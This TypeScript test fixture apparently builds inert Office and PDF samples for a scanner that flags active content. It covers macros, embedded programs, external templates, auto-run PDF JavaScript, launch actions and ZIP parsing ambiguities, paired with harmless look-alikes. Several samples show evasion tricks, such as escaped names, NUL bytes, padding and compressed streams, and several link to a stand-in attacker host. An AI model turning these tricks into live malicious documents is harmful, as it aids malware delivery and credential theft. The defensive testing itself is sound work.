import { deflateRawSync, deflateSync } from 'node:zlib'
import { samples } from './sampleFiles'

type Part = [name: string, content: string | Buffer, options?: { stored?: boolean }]

/** A ZIP archive of these parts, packed like a word processor's. */
export function packed(...parts: Part[]): Buffer {
  const locals: Buffer[] = []
  const directory: Buffer[] = []
  let offset = 0
  for (const [name, content, { stored = false } = {}] of parts) {
    const bytes = Buffer.from(name)
    const body = stored ? Buffer.from(content) : deflateRawSync(content)
    const local = Buffer.concat([Buffer.alloc(30), bytes, body])
    local.writeUInt32LE(0x04034b50, 0)
    local.writeUInt16LE(bytes.length, 26)
    const entry = Buffer.concat([Buffer.alloc(46), bytes])
    entry.writeUInt32LE(0x02014b50, 0)
    entry.writeUInt16LE(stored ? 0 : 8, 10)
    entry.writeUInt32LE(body.length, 20)
    entry.writeUInt32LE(Buffer.byteLength(content), 24)
    entry.writeUInt16LE(bytes.length, 28)
    entry.writeUInt32LE(offset, 42)
    locals.push(local)
    directory.push(entry)
    offset += local.length
  }
  const listed = Buffer.concat(directory)
  const end = Buffer.alloc(22)
  end.writeUInt32LE(0x06054b50, 0)
  end.writeUInt16LE(parts.length, 8)
  end.writeUInt16LE(parts.length, 10)
  end.writeUInt32LE(listed.length, 12)
  end.writeUInt32LE(offset, 16)
  return Buffer.concat([...locals, listed, end])
}

const types = (override: string): Part => [
  '[Content_Types].xml',
  `<Types><Default Extension="xml" ContentType="application/xml"/>${override}</Types>`,
]
const plainTypes = types('')
const body: Part = ['word/document.xml', '<w:document/>']
const relations = (kind: string, target: string, mode = ' TargetMode="External"'): Part => [
  'word/_rels/document.xml.rels',
  `<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" Target="${target}"${mode}/></Relationships>`,
]
const macros =
  '<Override PartName="/word/x.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
const many = (count: number): Part[] =>
  Array.from({ length: count }, (_, n): Part => [`word/${n}.xml`, ''])

/** An entry of an OLE directory, at the place of such entries. */
function compound(name: string, kind = 1): Buffer {
  const entry = Buffer.alloc(128)
  entry.write(name, 'utf16le')
  entry.writeUInt16LE((name.length + 1) * 2, 64)
  entry[66] = kind
  const head = Buffer.alloc(1024)
  samples.doc.copy(head, 0, 0, 8)
  return Buffer.concat([head, Buffer.from('WordDocument'.padEnd(64, '\u0000'), 'utf16le'), entry])
}

const pdf = (dictionary: string) =>
  Buffer.from(`%PDF-1.4\n1 0 obj\n<<${dictionary}>>\nendobj\ntrailer\n<<>>\n%%EOF\n`)

/** A PDF with its objects in a compressed stream. */
function packedObjects(objects: string): Buffer {
  const content = deflateSync(objects)
  const dictionary = `<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length ${content.length}>>`
  return Buffer.concat([
    Buffer.from(`%PDF-1.5\n1 0 obj\n${dictionary}\nstream\r\n`),
    content,
    Buffer.from('\nendstream\nendobj\n%%EOF\n'),
  ])
}

/** Files that could act, by their names and contents; none of them does anything. */
export const active: Record<string, [name: string, content: Buffer]> = {
  'macros under another name': ['a.docx', packed(types(macros), body, ['word/x.bin', 'x'])],
  'macros in character references': [
    'a.docx',
    packed(types(macros.replace('vbaProject', 'vba&#80;rojec&#x74;')), body),
  ],
  'macros in a manifest of another encoding': [
    'a.docx',
    packed(['[Content_Types].xml', Buffer.from(`\ufeff${macros}`, 'utf16le')], body),
  ],
  'a macro sheet': [
    'a.xlsx',
    packed(plainTypes, ['xl/workbook.xml', ''], ['xl/macrosheets/sheet1.xml', '']),
  ],
  'ActiveX controls': ['a.docx', packed(plainTypes, body, ['word/activeX/activeX1.xml', ''])],
  'an embedded object': [
    'a.docx',
    packed(plainTypes, body, ['word/embeddings/oleObject1.bin', 'x']),
  ],
  'an embedded program': ['a.docx', packed(plainTypes, body, ['word/embeddings/x.exe', 'x'])],
  'an external template': [
    'a.docx',
    packed(plainTypes, body, relations('attachedTemplate', 'https://evil.example/t.dotm')),
  ],
  'an external object': [
    'a.docx',
    packed(plainTypes, body, relations('oleObject', 'https://evil.example/x')),
  ],
  'a manifest that is a decompression bomb': ['a.docx', packed(types(' '.repeat(1_000_000)), body)],
  'a macro storage': ['a.doc', compound('Macros')],
  'a VBA storage': ['a.doc', compound('VBA')],
  'a VBA project': ['a.doc', Buffer.concat([samples.doc, Buffer.from('_VBA_PROJECT', 'utf16le')])],
  'a file embedded in an older document': ['a.doc', compound('\u0001Ole10Native', 2)],
  'JavaScript in a PDF': ['a.pdf', pdf('/OpenAction<</S/JavaScript/JS(app.alert(1))>>')],
  'escaped JavaScript in a PDF': ['a.pdf', pdf('/OpenAction<</S /J#61v#61Script /#4AS (x)>>')],
  'JavaScript elsewhere in a PDF': ['a.pdf', pdf('/AA <</O <</JS 7 0 R>>>>')],
  'JavaScript after much content': [
    'a.pdf',
    Buffer.concat([pdf(''), Buffer.alloc(131_072 - 70, 32), pdf('/S/JavaScript')]),
  ],
  'a launch action': ['a.pdf', pdf('/OpenAction<</S/Launch/F(x.exe)>>')],
  'a form with scripts': ['a.pdf', pdf('/AcroForm<</XFA 3 0 R>>')],
  'a template whose type ends in a blank': [
    'a.docx',
    packed(plainTypes, body, relations('attachedTemplate ', 'https://evil.example/t.dotm')),
  ],
  'a template with blanks around its mode': [
    'a.docx',
    packed(
      plainTypes,
      body,
      relations('attachedTemplate', 'https://evil.example/t', ' TargetMode = " External "'),
    ),
  ],
  'a picture from a file server': [
    'a.docx',
    packed(plainTypes, body, relations('image', 'file://evil.example/share/x.png')),
  ],
  'a picture from a file server without the external mode': [
    'a.docx',
    packed(plainTypes, body, relations('image', '\\\\evil.example\\share\\x.png', '')),
  ],
  'a link to another workbook': [
    'a.xlsx',
    packed(
      plainTypes,
      ['xl/workbook.xml', ''],
      [
        'xl/externalLinks/_rels/externalLink1.xml.rels',
        String(relations('externalLinkPath', 'https://evil.example/x.xlsx')[1]),
      ],
    ),
  ],
  'a web query': [
    'a.xlsx',
    packed(plainTypes, ['xl/workbook.xml', ''], ['xl/connections.xml', '<connections/>']),
  ],
  'a program under the name of a document': [
    'a.docx',
    packed(plainTypes, body, ['word/embeddings/notes.docx', 'MZ\u0090']),
  ],
  'macros in a nested document': [
    'a.docx',
    packed(plainTypes, body, [
      'word/embeddings/notes.docx',
      packed(types(macros), body, ['word/x.bin', 'x']),
    ]),
  ],
  'a form that sends data': ['a.pdf', pdf('/A<</S/SubmitForm/F(https://evil.example/)>>')],
  'a file in a PDF': ['a.pdf', pdf('/Names<</EmbeddedFiles 3 0 R>>')],
  'an address that opens automatically': [
    'a.pdf',
    pdf('/OpenAction<</Type/Action/S/URI/URI(https://evil.example/)>>'),
  ],
  'JavaScript behind a comment': ['a.pdf', pdf('/OpenAction<</S/Rendition/JS%c\n(app.alert(1))>>')],
  'JavaScript behind NUL': ['a.pdf', pdf('/AA<</O<</JS\u0000(x)>>>>')],
  'JavaScript in compressed objects': ['a.pdf', packedObjects('<</S/JavaScript/JS(x)>>')],
}

/** Files that are what they seem, and must not be mistaken for the ones above. */
export const harmless: Record<string, [name: string, content: Buffer]> = {
  'a document': ['a.docx', packed(plainTypes, body)],
  'a document with links': [
    'a.docx',
    packed(plainTypes, body, relations('hyperlink', 'https://portico.example/')),
  ],
  'a document with a sheet in it': [
    'a.docx',
    packed(
      plainTypes,
      body,
      ['word/embeddings/Sheet1.xlsx', packed(plainTypes, ['xl/workbook.xml', ''])],
      relations('package', 'x', ''),
    ),
  ],
  'a long document': ['a.docx', packed(plainTypes, body, ...many(500))],
  'an uncompressed document': ['a.docx', packed(plainTypes, [body[0], body[1], { stored: true }])],
  'an older document': ['a.doc', compound('1Table', 2)],
  'an older document about VBA': [
    'a.doc',
    Buffer.concat([samples.doc, Buffer.from('VBA Macros', 'utf16le')]),
  ],
  'a PDF with a first page': ['a.pdf', pdf('/OpenAction[3 0 R/Fit]')],
  'a PDF with a link': ['a.pdf', pdf('/A<</S/URI/URI(https://portico.example/)>>')],
  'a PDF with compressed objects': ['a.pdf', packedObjects('<</Type/Catalog/Pages 2 0 R>>')],
  'a PDF whose compressed data contain /JS': [
    'a.pdf',
    pdf('/Length 5>>stream\nx/JS)y\nendstream<<'),
  ],
}

/** What no two programs would parse alike. */
export const ambiguous: Record<string, Buffer> = {
  'more parts than are inspected': packed(plainTypes, body, ...many(5001)),
  'a directory with other names than its entries': renamed(packed(plainTypes, body)),
  'names with NUL': packed(plainTypes, body, ['word/vba\u0000.xml', '']),
  'a directory longer than it declares': shortened(packed(plainTypes, body, ['word/vba.xml', ''])),
}

function shortened(archive: Buffer): Buffer {
  const copy = Buffer.from(archive)
  copy.writeUInt16LE(2, copy.length - 12)
  return copy
}

/** The directory names an entry differently from the entry itself. */
function renamed(archive: Buffer): Buffer {
  const copy = Buffer.from(archive)
  copy.write('word/vbaProject', copy.indexOf('word/document.xml'))
  return copy
}
